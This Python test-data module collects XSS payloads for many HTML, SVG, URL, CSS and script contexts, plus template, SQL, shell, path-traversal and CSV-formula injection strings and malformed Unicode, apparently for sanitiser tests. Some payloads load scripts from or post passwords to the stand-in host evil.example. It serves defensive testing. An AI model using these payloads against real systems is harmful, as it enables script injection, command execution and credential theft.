"""What an attacker types: script payloads for every place a text can land in, and texts that only look like texts.

Written for these tests. Every payload that ran would open a dialog, write to the console, ask for an address, or fail
loudly: `alert(7)` is what most of them call.
"""

from itertools import product

_ACT = "alert(7)"

# How a text leaves what surrounds it: nothing, an attribute in either quote, a text area, a title, a comment, a script…
_WAYS_OUT = (
    "", '">', "'>", '"/>', "`>", "</textarea>", "</title>", "</style>", "-->", "]]>", "</script>", "</template>",
    "</noscript>", "</select>", "</button></form>", "</p></div></section></main>",
)  # fmt: skip
_ELEMENTS = (
    f"<script>{_ACT}</script>",
    f"<img src=x onerror={_ACT}>",
    f"<svg onload={_ACT}>",
)
_HTML = (
    f"<ScRiPt>{_ACT}</sCrIpT>",
    f"<script >{_ACT}</script >",
    f"<script\n>{_ACT}</script\t>",
    f"<script/x>{_ACT}</script>",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<<script>{_ACT}//<</script>",
    f"<script>{_ACT}",
    "<script src=//evil.example/x.js></script>",
    "<script src=data:text/javascript,alert(7)></script>",
    f"<script type=module>{_ACT}</script>",
    f"<script nonce=>{_ACT}</script>",
    f"<script nonce='none'>{_ACT}</script>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=image href=//evil.example/x.png>",
    "<link rel=prefetch href=//evil.example/x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(7)'>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">",
    "<iframe src=javascript:alert(7)></iframe>",
    f"<iframe srcdoc='<script>parent.{_ACT}</script>'></iframe>",
    "<iframe src=//evil.example/></iframe>",
    "<frameset onload=alert(7)><frame></frameset>",
    "<object data=javascript:alert(7)></object>",
    "<object data=data:text/html,<script>alert(7)</script>></object>",
    "<embed src=javascript:alert(7)>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(7)><button>x</button></form>",
    "<form action=//evil.example/ method=post><input name=password></form>",
    "</form><form action=//evil.example/>",
    "<button formaction=javascript:alert(7)>x</button>",
    "<input type=image src=x onerror=alert(7)>",
    "<input autofocus onfocus=alert(7)>",
    "<textarea autofocus onfocus=alert(7)>",
    "<select autofocus onfocus=alert(7)>",
    "<keygen autofocus onfocus=alert(7)>",
    "<div contenteditable autofocus onfocus=alert(7)>",
    "<details open ontoggle=alert(7)>",
    "<dialog open onclose=alert(7)>x</dialog>",
    "<marquee onstart=alert(7)>x</marquee>",
    "<video src=x onerror=alert(7)></video>",
    "<video><source onerror=alert(7)></video>",
    "<audio src=x onerror=alert(7)>",
    "<body onload=alert(7)>",
    "<body onpageshow=alert(7)>",
    "<html onmousemove=alert(7)>",
    "<table background=javascript:alert(7)>",
    "<td background=//evil.example/x.png>",
    "<bgsound src=//evil.example/x>",
    "<a href=javascript:alert(7) autofocus>x</a>",
    "<a href=//evil.example ping=//evil.example/p>x</a>",
    "<area href=javascript:alert(7)>",
    "<plaintext>",
    "<xmp>",
    "<listing>",
    "<noembed>",
    "<noframes>",
    "<style>body{display:none}</style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<!--",
    "<!doctype html><html>",
    "<![CDATA[<script>alert(7)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<? alert(7) ?>",
    "<% alert(7) %>",
    "<template><script>alert(7)</script></template>",
    "<template shadowrootmode=open><script>alert(7)</script></template>",
    "<slot name=x onslotchange=alert(7)>",
    "<custom-element is=x onclick=alert(7)>",
    "<isindex type=image src=1 onerror=alert(7)>",
    "<portal src=//evil.example/>",
    "<fencedframe src=//evil.example/>",
    "<div popover id=x onbeforetoggle=alert(7)>x</div>",
    "<input id=x name=csrf_token value=planted>",
    "<a id=location href=x><a id=location name=href>",
    "<form id=document><input name=cookie></form>",
    "<img name=getElementById>",
    "<h1>보냈습니다</h1>",
    "<b>굵게</b> &lt;script&gt;alert(7)&lt;/script&gt;",
    "&#60;script&#62;alert(7)&#60;/script&#62;",
    "&#x3C;img src=x onerror=alert(7)&#x3E;",
    "&lt/script&gt;",
    "&#0000060script&#0000062alert(7)",
)
_ATTRIBUTES = (
    '" onmouseover="alert(7)', "' onmouseover='alert(7)", '" autofocus onfocus="alert(7)" x="', "' autofocus onfocus='alert(7)' x='",
    '" style="position:fixed;inset:0" x="', "' style='animation:x' onanimationstart='alert(7)", '"onpointerenter=alert(7)//',
    '" accesskey="x" onclick="alert(7)', "x onerror=alert(7) ", "`onload=alert(7)`", '" href="javascript:alert(7)', '" formaction="javascript:alert(7)',
    '" data-address="//evil.example/" x="', '" data-drafts="//evil.example/', '" role="option" hidden x="', '" value="send',
    "\" oncontentvisibilityautostatechange=\"alert(7)\" style=\"content-visibility:auto", "\\\" onload=alert(7) \\\"", "&quot; onload=alert(7)",
)  # fmt: skip
_SVG_AND_MATH = (
    "<svg><script>alert(7)</script></svg>",
    "<svg><script href=data:text/javascript,alert(7) />",
    "<svg><script xlink:href=//evil.example/x.js></script>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(7) attributeName=x>",
    "<svg><a xlink:href=javascript:alert(7)><text y=20>x</text></a>",
    "<svg><a><animate attributeName=href values=javascript:alert(7) /><text y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(7)</script></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(7)</script>'></foreignObject></svg>",
    "<svg><image href=x onerror=alert(7)>",
    "<svg><style>*{background:url(//evil.example/x)}</style></svg>",
    "<svg><title><script>alert(7)</script></title></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(7)</script>]]></svg>",
    "<svg xmlns:x='http://www.w3.org/1999/xlink'><a x:href='javascript:alert(7)'>x</a></svg>",
    "<svg/onload=alert(7)//",
    "<svg onload\r\n=alert(7)>",
    "<math><mtext><script>alert(7)</script></mtext></math>",
    "<math href=javascript:alert(7)>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(7)>x</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(7)></annotation-xml></math>",
    "<math><style><img src=x onerror=alert(7)></style></math>",
)
_MUTATIONS = (
    "<noscript><p title='</noscript><img src=x onerror=alert(7)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(7)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(7)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(7)&gt;'>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(7)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(7)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(7)>'>",
    "<select><style></select><img src=x onerror=alert(7)>",
    "<table><tr><td></table><img src=x onerror=alert(7)>",
    "<a><table><a><img src=x onerror=alert(7)></a></table></a>",
    "<p><svg><foreignObject><p></svg><img src=x onerror=alert(7)>",
    "<title><style></title><img src=x onerror=alert(7)></style>",
    "<iframe><!--</iframe><img src=x onerror=alert(7)>-->",
    "<!--><img src=x onerror=alert(7)>-->",
    "<!-- --!><img src=x onerror=alert(7)>",
    "<!--[if IE]><script>alert(7)</script><![endif]-->",
    "<img src='x' alt='`` onerror=alert(7)'>",
    "<listing>&lt;img onerror=alert(7) src=x&gt;</listing>",
    "<div id='\x0bx' title='\x0c onload=alert(7)'>",
    "＜script＞alert(7)＜/script＞",
    "‹script›alert(7)‹/script›",
    "<\u017fcript>alert(7)</\u017fcript>",
    "<\u0131mg src=x onerror=alert(7)>",
    "<img\u00a0src=x\u00a0onerror=alert(7)>",
    "<img/src=x/onerror=alert(7)>",
    "+ADw-script+AD4-alert(7)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(7)%3C/script%3E",
    "%253Cscript%253Ealert(7)%253C%252Fscript%253E",
    "\\u003cscript\\u003ealert(7)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(7)\\x3c/script\\x3e",
    "\\74script\\76alert(7)\\74/script\\76",
)
_TEMPLATES = (
    "{{7*7}}", "{{ 7*'7' }}", "{% raw %}{{7}}", "{% endblock %}{% include 'base.html' %}", "{{config}}", "{{config.SECRET_KEY}}",
    "{{self.__init__.__globals__}}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__}}",
    "{{url_for.__globals__}}", "{{cycler.__init__.__globals__.os.popen('id').read()}}", "{{lipsum.__globals__}}", "{# comment", "{%",
    "${7*7}", "#{7*7}", "<%= 7*7 %>", "*{7*7}", "@(7*7)", "[[7*7]]", "{{constructor.constructor('alert(7)')()}}",
    "{{$on.constructor('alert(7)')()}}", "<div ng-app>{{7*7}}</div>", "<div v-html='alert(7)'>", "<div x-init='alert(7)'>",
    "%(name)s", "%(name)", "%s%s%s%n", "100% 고맙습니다", "%", "%%", "{name}", "{0.__class__}", "{n}", "{who}", "{}", "}{",
    "$&", "$'", "$`", "$1", "$<name>",
)  # fmt: skip
_URLS = (
    "javascript:alert(7)", "JaVaScRiPt:alert(7)", "java\tscript:alert(7)", "java&#10;script:alert(7)", "&#106;avascript:alert(7)",
    "javascript://%0aalert(7)", "javascript:/*--></title></style></textarea></script><svg/onload=alert(7)>*/", "data:text/html,<script>alert(7)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==", "vbscript:msgbox(7)", "blob:null/x", "//evil.example/", "https://evil.example/",
    "view-source:javascript:alert(7)", "http://127.0.0.1@evil.example/", "/\\evil.example",
)  # fmt: skip
_STYLES = (
    "</style><script>alert(7)</script>",
    "x{}*{background:url(//evil.example/x)}",
    "expression(alert(7))",
    "background:url(javascript:alert(7))",
    "-moz-binding:url(//evil.example/x)",
    "behavior:url(x.htc)",
    "}body{display:none}",
    "@import'//evil.example/x';",
    "\\3c script\\3e alert(7)",
    "@charset 'utf-7';",
)
_SCRIPTS = (
    "';alert(7);//", '";alert(7);//', "`;alert(7);//", "${alert(7)}", "\\';alert(7);//", '\\";alert(7);//', "</script><script>alert(7)//",
    "<!--<script>", "'-alert(7)-'", '"-alert(7)-"', "');alert(7);('", "\u2028alert(7)\u2029", "*/alert(7)/*", "//\nalert(7)",
    '{"a":"</script><script>alert(7)</script>"}', '"}];alert(7);[{"', '{"__proto__":{"x":1}}', "__proto__", "constructor", "toString", "hasOwnProperty",
    "onerror=alert;throw 7", "setTimeout`alert\\x287\\x29`", "[].map.constructor`alert(7)```", "import('//evil.example/x.js')", "alert\u200b(7)",
)  # fmt: skip
_QUERIES = (
    "' OR '1'='1", "'; DROP TABLE notes;--", '" OR ""="', "1) OR (1=1", "%' OR name LIKE '%", "_%", "\\", "\\'", "$$;SELECT pg_sleep(9);$$",
    "' UNION SELECT password_hash FROM accounts--", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-1+1", "@SUM(1)",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "; cat /etc/passwd", "| id", "$(id)", "`id`", "\r\nSet-Cookie: x=1", "*)(uid=*))(|(uid=*",
)  # fmt: skip

SCRIPTS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(way + element for way, element in product(_WAYS_OUT, _ELEMENTS)),
            *_HTML, *_ATTRIBUTES, *_SVG_AND_MATH, *_MUTATIONS, *_TEMPLATES, *_URLS, *_STYLES, *_SCRIPTS, *_QUERIES,
        )
    )
)  # fmt: skip
"""Every script payload, each once."""

BIDI = (
    "\u202egnp.txt", "\u2066홍길동\u2069", "\u200e\u200f", "김민수\u202e수민김", "\u061cabc", "\u202d12345", "\u2067x", "\u202a\u202b\u202c",
)  # fmt: skip
ZERO_WIDTH = (
    "\u200b", "\u200c\u200d", "홍\u200b길\u200b동", "\ufeff\ufeff", "\u2060\u00ad", "\u3164", "\u115f\u1160", "\uffa0", "\u2800" * 30, "\u180e", "\u034f" * 40,
    "\U000e0041\U000e0042", "\ufe0f" * 50, "\u17b4\u17b5",
)  # fmt: skip
COMBINING = (
    "가" + "\u0301" * 500, "a" + "\u0489" * 300, "\u0e49" * 200, "Z" + "".join(map(chr, range(0x300, 0x370))) * 4, "고" + "\u20dd" * 50,
    "\u1100" * 300, "ᄒ" + "\u1161" * 300, "\u0651" * 100, "\u0f90" * 120,
)  # fmt: skip
BROKEN = (
    "\x00",
    "a\x00b",
    "\x1b[31m",
    "\x07",
    "\x7f",
    "\x85",
    "\ufffe",
    "\uffff",
    "\U0010ffff",
    "\x0b\x0c",
    "\r",
    "\n\n\n\n",
    "\t" * 90,
)
SURROGATES = ("\ud800", "\udfff", "고마움\ud83d", "\udc00\ud800", "\ud83d\ud83d\ude00")
LONG = (
    "W" * 500,
    "가" * 500,
    "ﷺ" * 400,
    "\u1100\u1161\u11a8" * 400,
    "👨‍👩‍👧‍👦" * 60,
    "_" * 300,
    "\u00a0".join("가" * 200),
    "/" * 400,
)
WIDE = 10_000_000
"""The characters of a text that nobody types: 10 MB."""

TEXTS: tuple[str, ...] = (*SCRIPTS, *BIDI, *ZERO_WIDTH, *COMBINING, *BROKEN, *LONG)
"""Everything that can be written as UTF-8."""
